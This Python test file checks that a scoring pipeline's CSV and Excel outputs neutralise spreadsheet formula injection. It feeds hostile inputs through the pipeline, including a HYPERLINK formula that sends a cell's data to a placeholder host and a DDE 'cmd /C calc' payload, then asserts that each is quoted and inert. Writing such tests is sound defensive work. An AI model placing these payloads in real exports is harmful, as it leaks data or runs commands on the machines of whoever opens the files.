"""Nothing written for a spreadsheet can become a formula.

A run is fed hostile strings (a province cell ``=HYPERLINK(…)``, rubric labels and grades that
start with ``=``, ``+``, ``-``, ``@``, tab or CR, an input file whose name starts with ``=``);
then every CSV it wrote and the Excel workbook are opened: no text cell starts with a formula
trigger, the workbook holds no formula, and numbers (negative ones included) are numbers."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import polars as pl
import pytest
import yaml

from cchc_analysis.store.outputs import (
    FORMULA_TRIGGERS,
    atomic_write_csv,
    formula_safe,
    formula_safe_frame,
)

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1;"bấm vào")'
# one hostile prefix per OWASP trigger, each also a plausible formula
PREFIXES = ["=1+", "+1+", "-2+", "@SUM(1)", "\t=1+", "\r=1+"]
INPUT_NAME = "=1+1 bảng.csv"
# what a spreadsheet reads as a number (and never as a formula)
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


# ------------------------------------------------------------------------- the rule itself


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_gets_a_leading_quote(trigger):
    assert formula_safe(f"{trigger}cmd|' /C calc'!A0") == f"'{trigger}cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value", ["Hà Nội", "", "a=b", "1-2", " =1", "'=already quoted", -5, -5.25, 0, None, True]
)
def test_everything_else_is_left_as_it_is(value):
    assert formula_safe(value) == value and type(formula_safe(value)) is type(value)


def test_frame_rule_matches_the_cell_rule_and_keeps_numbers_numeric():
    texts = [f"{t}x" for t in FORMULA_TRIGGERS] + ["-5", "x-5", "", None, "Hòa Bình"]
    frame = pl.DataFrame(
        {
            "text": texts,
            "label": pl.Series(texts, dtype=pl.Categorical),
            "change": [-5.5] * len(texts),
            "rank": [-3] * len(texts),
            "missing": [True] * len(texts),
            "=header": [1] * len(texts),
        }
    )
    safe = formula_safe_frame(frame)
    expected = [formula_safe(t) for t in texts]
    assert safe["text"].to_list() == expected == safe["label"].to_list()
    assert safe["text"][len(FORMULA_TRIGGERS)] == "'-5"  # "-5" held as text is text
    assert safe["change"].to_list() == [-5.5] * len(texts)  # a negative number is untouched
    assert safe["rank"].dtype == pl.Int64 and safe["missing"].dtype == pl.Boolean
    assert safe.columns == ["text", "label", "change", "rank", "missing", "'=header"]


def test_csv_cells_keep_their_escaping(tmp_path):
    # the quote is added, then the CSV writer still quotes what holds a comma, quote or newline
    frame = pl.DataFrame({"a": ['=HYPERLINK("x","y")', "\r=1+1", "-1,5", "ok"], "n": [-1.5] * 4})
    path = atomic_write_csv(tmp_path / "t.csv", frame)
    with open(path, encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows == [
        ["a", "n"],
        ['\'=HYPERLINK("x","y")', "-1.5"],
        ["'\r=1+1", "-1.5"],
        ["'-1,5", "-1.5"],
        ["ok", "-1.5"],
    ]


# ------------------------------------------------------------------------- a hostile run


def _hostile_rubric(folder: Path) -> Path:
    """The illustrative rubric with every label and grade starting with a formula trigger."""
    from importlib import resources

    rubrics = resources.files("cchc_analysis") / "rubrics"
    data = yaml.safe_load((rubrics / "par-index-illustrative.yaml").read_text("utf-8"))
    labelled = [*data["domains"]]
    labelled += [c for d in data["domains"] for c in d["criteria"]]
    for number, item in enumerate(labelled):
        prefix = PREFIXES[number % len(PREFIXES)]
        item["label_vi"] = prefix + item["label_vi"]
        item["label_en"] = prefix + item["label_en"]
    for group in data["grade_bands"]:
        for number, band in enumerate(group["bands"]):
            band["grade"] = PREFIXES[number % len(PREFIXES)] + band["grade"]
    data["id"] = "=hostile"
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    spec = yaml.safe_load((rubrics / "par-index-illustrative.uncertainty.yaml").read_text("utf-8"))
    spec["rubric"] = data["id"]
    (folder / "hostile.uncertainty.yaml").write_text(
        yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8"
    )
    return path


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, three_province_csv):
    """Validate (with quarantine), score, compute uncertainty, extract and write the workbook
    from hostile inputs; return the run's folder."""
    from cchc_analysis.extract import Extraction, ExtractWarning, Figure, write_extraction
    from cchc_analysis.pipeline import run_score, run_validate
    from cchc_analysis.reports.workbook import write_workbook
    from cchc_analysis.uncertainty.run import run_uncertainty

    root = tmp_path_factory.mktemp("hostile")
    rows = pl.read_csv(three_province_csv, infer_schema=False)
    bad = [
        {"province": HYPERLINK, "value": "5"},
        {"province": "Hà Nội", "value": "=1+1"},
        {"province": "Phú Thọ", "value": "-2+3"},
        {"province": "@SUM(A1)", "value": "@SUM(A1)"},
        {"province": "\t=1+1", "value": "\r=1+1"},
    ]
    extra = pl.DataFrame(
        [
            {
                **r,
                "period": "2025",
                "indicator": "dossier.received",
                "source": "@SUM(1)",
                "note": "-2+3",
            }
            for r in bad
        ]
    )
    table = pl.concat([rows, extra], how="diagonal_relaxed")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)  # the input is named by a relative path that starts with '='
        table.write_csv(root / INPUT_NAME)
        result = run_validate(
            [Path(INPUT_NAME)], root / "processed", root / "validation", quarantine=True
        )
        assert not result.ok  # the hostile rows were refused ...
        rubric = _hostile_rubric(root)
        scores = root / "scores"
        run_score(root / "processed" / "indicators.parquet", str(rubric), scores)
        run_uncertainty(
            root / "processed" / "indicators.parquet",
            str(rubric),
            root / "uncertainty",
            runs=64,
            seed=1,
        )
    tables = {n: pl.read_parquet(scores / f"scores_{n}.parquet") for n in ("totals", "domains")}
    tables["criteria"] = pl.read_parquet(scores / "scores_criteria.parquet")
    manifest = json.loads((scores / "_manifest.json").read_text("utf-8"))
    for lang in ("vi", "en"):
        write_workbook(tables, 2025, root / f"workbook_{lang}", lang, manifest)
    figure = Figure(
        file=INPUT_NAME, province=HYPERLINK, period="2025", indicator="dossier.received",
        value=-3.0, unit="-", scope="+x", bound="", note="@x", evidence="\t=1+1",
        char_start=0, char_end=3, line=1, cue="\r=1+1", confidence=0.5, text="-3",
    )  # fmt: skip
    warning = ExtractWarning(
        file=INPUT_NAME, row=1, province=HYPERLINK, period="2025", indicator="x", column="=c",
        value="-2+3", rule="@r", severity="warning", message_vi="=m", message_en="+m",
    )  # fmt: skip
    write_extraction(
        Extraction(figures=[figure], subunits=[figure], warnings=[warning]), root / "ex.csv"
    )
    return root


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def _written_csvs(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*.csv") if p.name != INPUT_NAME)


def test_the_run_wrote_every_kind_of_csv(hostile_run):
    names = {p.name for p in _written_csvs(hostile_run)}
    expected = {"failures.csv", "quarantined.csv", "ex.csv", "ex.warnings.csv"}
    expected |= {"ex.subunits.csv", "ex.held_back.csv"}
    expected |= {"uncertainty_intervals.csv", "uncertainty_bands.csv"}
    expected |= {f"scores_{n}.csv" for n in ("totals", "domains", "criteria")}
    assert expected <= names


def test_no_csv_cell_can_become_a_formula(hostile_run):
    for path in _written_csvs(hostile_run):
        for number, row in enumerate(_csv_rows(path)):
            for cell in row:
                assert NUMBER.fullmatch(cell) or not cell.startswith(FORMULA_TRIGGERS), (
                    f"{path.name} line {number + 1}: {cell!r}"
                )


def test_hostile_texts_reach_the_csvs_neutralised_not_dropped(hostile_run):
    failures = _csv_rows(hostile_run / "validation" / "failures.csv")
    quarantined = _csv_rows(hostile_run / "processed" / "quarantine" / "quarantined.csv")
    for rows in (failures, quarantined):
        cells = {cell for row in rows for cell in row}
        # the reader strips the tab and CR around a cell: "\t=1+1" arrives as "=1+1"
        assert {"'" + HYPERLINK, "'@SUM(A1)", "'=1+1", "'-2+3"} <= cells
        assert "'" + INPUT_NAME in cells  # the file column: a name starting with '='
    extracted = {
        cell
        for name in ("ex", "ex.warnings")
        for row in _csv_rows(hostile_run / f"{name}.csv")
        for cell in row
    }
    assert {"'\t=1+1", "'\r=1+1", "'" + HYPERLINK, "'=c", "'+m"} <= extracted
    criteria = _csv_rows(hostile_run / "scores" / "scores_criteria.csv")
    labels = {row[criteria[0].index("label_vi")] for row in criteria[1:]}
    assert {label[:4] for label in labels} >= {"'=1+", "'+1+", "'-2+", "'@SU", "'\t=1", "'\r=1"}
    figures = _csv_rows(hostile_run / "ex.csv")
    assert figures[1][figures[0].index("value")] == "'-3"  # a number held as text is text


def test_numbers_stay_numbers_in_the_csvs(hostile_run):
    totals = pl.read_csv(hostile_run / "scores" / "scores_totals.csv")
    assert totals["index_pct"].dtype == pl.Float64 and totals["rank"].dtype == pl.Int64
    change = totals["change_points"].drop_nulls()
    assert change.dtype == pl.Float64 and (change < 0).any()  # negatives written as numbers
    assert set(totals["grade"].str.slice(0, 2)) <= {"'=", "'+", "'-", "'@", "'\t", "'\r"}


def _workbook_cells(path: Path):
    from openpyxl import load_workbook

    book = load_workbook(path)  # not data_only: a formula would come back as a formula
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_workbook_holds_no_formula_and_numbers_are_numbers(hostile_run, lang):
    from cchc_analysis.reference.labels import text

    path = hostile_run / f"workbook_{lang}" / "cchc_scores_2025.xlsx"
    cells = list(_workbook_cells(path))
    assert len({title for title, _ in cells}) == 4
    for title, cell in cells:
        assert cell.data_type != "f", f"{title}!{cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_TRIGGERS), f"{title}!{cell.coordinate}"
    texts = {cell.value for _, cell in cells if isinstance(cell.value, str)}
    assert any(t.startswith("'=1+") for t in texts)  # rubric labels kept, made inert
    assert any(t.startswith("'" + INPUT_NAME) for t in texts)  # the input file's name
    assert any(t.startswith("'=hostile") for t in texts)  # the rubric id
    from openpyxl import load_workbook

    totals = load_workbook(path)[text("sheet_totals", lang)]
    header = [c.value for c in totals[1]]
    for key in ("index_pct", "change_points_col", "rank"):
        column = [row[header.index(text(key, lang))] for row in totals.iter_rows(min_row=2)]
        assert column and all(c.data_type == "n" for c in column)
    change = [
        r[header.index(text("change_points_col", lang))].value for r in totals.iter_rows(min_row=2)
    ]
    assert any(isinstance(v, float) and v < 0 for v in change)
    grades = [r[header.index(text("grade", lang))].value for r in totals.iter_rows(min_row=2)]
    assert all(g[:2] in {"'=", "'+", "'-", "'@"} for g in grades)
